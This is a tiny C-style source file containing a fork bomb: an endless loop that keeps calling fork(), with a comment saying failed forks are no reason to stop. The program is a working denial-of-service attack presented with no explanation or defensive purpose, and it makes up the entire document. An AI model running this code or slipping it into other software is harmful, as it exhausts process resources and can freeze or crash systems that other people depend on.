#include<unistd.h>
// Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
int main() {
    while (true) {
        fork();
    }
}
